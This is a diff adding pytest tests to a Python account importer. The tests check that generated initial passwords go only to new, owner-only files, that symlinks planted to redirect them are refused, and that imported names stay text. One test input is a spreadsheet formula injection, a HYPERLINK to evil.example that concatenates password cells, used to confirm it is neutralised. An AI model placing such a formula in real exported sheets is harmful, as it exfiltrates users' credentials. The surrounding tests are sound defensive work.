@@ -7,12 +7,14 @@ importing the same sheet again changes nothing and shows no password.
 """
 import io
 import json
+import stat
 
 import openpyxl
 import pytest
 from sqlalchemy import select
 
 from backend.audit.models import AuditEvent
+from backend.auth import account_importer
 from backend.auth.models import User
 from backend.extensions import db
 
@@ -253,6 +255,49 @@ def test_the_command_imports_within_its_region_and_prints_each_password_once(app
     sheet = list(openpyxl.load_workbook(saved).active.values)
     assert sheet[0] == ("行号", "姓名", "登录名", "初始密码") and sheet[1][:3] == (2, "孙丽", "sunli")
     assert login(app.test_client(), "sunli", sheet[1][3]).status_code == 200
+    assert stat.S_IMODE(saved.stat().st_mode) == 0o600  # the passwords are the importer's to read, nobody else's
+
+
+def test_the_command_writes_passwords_only_to_a_new_file_never_through_a_link(app, huaihua, tmp_path):  # noqa: F811
+    """An existing file, or a link planted where the file is to be (in /tmp, by another user), is refused before
+    anything is imported: exit code 1, said in Chinese, the link's target untouched, no account created."""
+    source = tmp_path / "新.csv"
+    source.write_bytes(csv_file([["孙丽", "sunli", "区域管理员", "", "岳麓区", ""]], header=HEADER))
+    target = tmp_path / "别人的.xlsx"
+    target.write_bytes(b"")
+    planted = tmp_path / "密码.xlsx"
+    planted.symlink_to(target)
+    existing = tmp_path / "旧.xlsx"
+    existing.write_bytes(b"old")
+    for path in (planted, existing):
+        result = app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(path)])
+        assert result.exit_code == 1, result.output
+        assert f"文件 {path} 已存在：初始密码只写入新文件（不覆盖已有文件，也不经符号链接写到别处），请换一个文件名。什么都没有导入。" \
+            in result.output
+    assert (target.read_bytes(), existing.read_bytes()) == (b"", b"old")
+    assert account("sunli") is None
+    path = tmp_path / "新密码.xlsx"
+    assert app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(path)]).exit_code == 0
+    assert account("sunli") is not None and stat.S_IMODE(path.stat().st_mode) == 0o600
+    # Nothing new to write (the same sheet again): no empty file left behind.
+    fresh = tmp_path / "再.xlsx"
+    again = app.test_cli_runner().invoke(args=["import-admins", str(source), "--passwords", str(fresh)])
+    assert again.exit_code == 0 and "未变化 1 个" in again.output and not fresh.exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?p="&D2&D3,"查看说明")'
+
+
+def test_an_imported_name_like_a_formula_stays_text_beside_the_passwords(client, huaihua):  # noqa: F811
+    """下载导入结果 holds every new account's password: a 姓名 "=HYPERLINK(…&D2…)" imported into it must stay
+    text (as in every export), never a formula that sends the passwords away when the sheet is opened."""
+    rows = [[FORMULA, "evil1", "站点管理员", "城北联络站", "", "在用"], ["王芳", "wangfang", "站点管理员", "城北联络站", "", "在用"]]
+    response = upload(client, huaihua["headers"], csv_file(rows, header=HEADER), filename="a.csv")
+    assert response.status_code == 200, response.json
+    book = openpyxl.load_workbook(io.BytesIO(account_importer.result_sheet(response.json)))
+    name = book.active["B2"]
+    assert (name.value, name.data_type, name.quotePrefix) == (FORMULA, "s", True)
+    assert [c.value for c in book.active[3]] == [3, "王芳", "wangfang", response.json["passwords"][1]["password"]]
 
 
 def _new_accounts(count, prefix):
